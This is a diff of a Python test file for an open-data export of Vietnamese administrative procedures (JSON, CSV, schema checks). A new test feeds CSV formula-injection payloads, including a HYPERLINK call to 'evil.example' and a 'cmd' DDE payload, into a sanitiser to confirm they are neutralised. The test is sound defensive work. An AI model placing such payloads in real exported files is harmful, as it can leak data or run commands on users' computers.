@@ -1,4 +1,5 @@
 """Procedures as open data."""
+
 import csv
 import io
 import json
@@ -9,18 +10,23 @@ from jsonschema import Draft202012Validator
 
 from plugins.discovery import procedures
 from plugins.discovery.addresses import public
-from plugins.model import RECORDS, Procedure
+from plugins.domain import Procedure
+from plugins.run import load_kinds
 
-PROPERTIES = {name: json.dumps(field) for name, field in Procedure.model_json_schema()["properties"].items()}
+PROPERTIES = {
+    name: json.dumps(field) for name, field in Procedure.model_json_schema()["properties"].items()
+}
 
 
 def pages(portal):
     return [page for page in public(portal) if page.kind == "procedure"]
 
 
-@pytest.fixture(params=["portal", "national"])
+@pytest.fixture(
+    params=["portal", "national", pytest.param("all_national", marks=pytest.mark.whole)]
+)
 def dump(request):
-    """The example portal, then two hundred real records: the portal and its files."""
+    """A small portal, then real records: the portal and its files."""
     portal = request.getfixturevalue(request.param)
     return portal, dict(procedures.files(portal))
 
@@ -28,21 +34,68 @@ def dump(request):
 def test_the_json_dump_read_back_equals_the_records(dump):
     portal, files = dump
     rows = json.loads(files["api/procedures.json"])
-    assert [Procedure.model_validate(row["record"]) for row in rows] == [page.record for page in pages(portal)]
+    assert [Procedure.model_validate(row["record"]) for row in rows] == [
+        page.record for page in pages(portal)
+    ]
     assert [row["lang"] for row in rows] == [page.lang for page in pages(portal)]
 
 
 def test_the_table_read_back_equals_the_records(dump):
     portal, files = dump
-    rows = list(csv.DictReader(io.StringIO(files["api/procedures.csv"].decode("utf-8-sig"), newline="")))
-    read = [Procedure.model_validate({name: _value(name, cell) for name, cell in row.items()
-                                      if cell and name not in ("lang", "url")}) for row in rows]
+    rows = list(
+        csv.DictReader(io.StringIO(files["api/procedures.csv"].decode("utf-8-sig"), newline=""))
+    )
+    read = [
+        Procedure.model_validate(
+            {
+                name: _value(name, procedures.as_written(cell))
+                for name, cell in row.items()
+                if cell and name not in ("lang", "url")
+            }
+        )
+        for row in rows
+    ]
     assert read == [page.record for page in pages(portal)]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "＝1",
+        "'=1",
+        "''+1",
+        "a;=1+1",
+        "a\n=1+1",
+        "a\r\n-1",
+        "a\t@x",
+        ";=1",
+        "'",
+        "''",
+        "a=b",
+        "60/2014/QH13",
+        "- Tờ khai\n- Căn cước",
+    ],
+)
+def test_no_cell_is_a_formula_and_each_can_be_had_as_it_was_written(cell):
+    written = procedures.harmless(cell)
+    assert not re.search(r"(?:^|[;\t\r\n])[=+\-@＝＋－＠]", written)
+    assert written[:1] not in "\t\r" or not cell
+    assert procedures.as_written(written) == cell
 
 
 def _value(name, cell):
     """A cell as a value: fields that hold more than one value are JSON."""
-    return json.loads(cell) if "$ref" in PROPERTIES[name] or re.search('"(array|object)"', PROPERTIES[name]) else cell
+    return (
+        json.loads(cell)
+        if "$ref" in PROPERTIES[name] or re.search('"(array|object)"', PROPERTIES[name])
+        else cell
+    )
 
 
 def test_each_procedure_has_a_file_with_all_its_languages(portal, written):
@@ -51,10 +104,13 @@ def test_each_procedure_has_a_file_with_all_its_languages(portal, written):
     assert files == {f"api/procedures/{code}.json" for code in codes}
     birth = json.loads(written["api/procedures/1.001193.json"])
     assert birth["languages"].keys() == {"vi", "en"}
-    assert birth["languages"]["vi"]["url"] == f"{portal.site.url.rstrip('/')}/vi/thu-tuc/dang-ky-khai-sinh/"
+    assert (
+        birth["languages"]["vi"]["url"]
+        == f"{portal.site.url.rstrip('/')}/vi/thu-tuc/dang-ky-khai-sinh/"
+    )
 
 
-@pytest.mark.parametrize("kind", RECORDS)
+@pytest.mark.parametrize("kind", load_kinds())
 def test_the_published_schema_accepts_every_header_and_refuses_a_wrong_one(portal, written, kind):
     schema = json.loads(written[f"api/schema/{kind}.json"])
     Draft202012Validator.check_schema(schema)
@@ -64,7 +120,9 @@ def test_the_published_schema_accepts_every_header_and_refuses_a_wrong_one(porta
     for record in records:
         validator.validate(record.model_dump(mode="json", exclude_defaults=True))
     assert not validator.is_valid({"title": 5})
-    assert not validator.is_valid({**records[0].model_dump(mode="json", exclude_defaults=True), "tittle": "x"})
+    assert not validator.is_valid(
+        {**records[0].model_dump(mode="json", exclude_defaults=True), "tittle": "x"}
+    )
 
 
 def test_the_portals_own_settings_have_a_schema_too(portal, written):
@@ -75,7 +133,10 @@ def test_the_portals_own_settings_have_a_schema_too(portal, written):
 
 def test_every_field_of_the_schema_has_a_label_in_both_languages(written):
     schema = json.loads(written["api/schema/procedure.json"])
-    fields = [(name, field) for record in (schema, *schema["$defs"].values())
-              for name, field in record.get("properties", {}).items()]
+    fields = [
+        (name, field)
+        for record in (schema, *schema["$defs"].values())
+        for name, field in record.get("properties", {}).items()
+    ]
     assert len(fields) > 60
     assert [name for name, field in fields if field["x-label"].keys() != {"vi", "en"}] == []
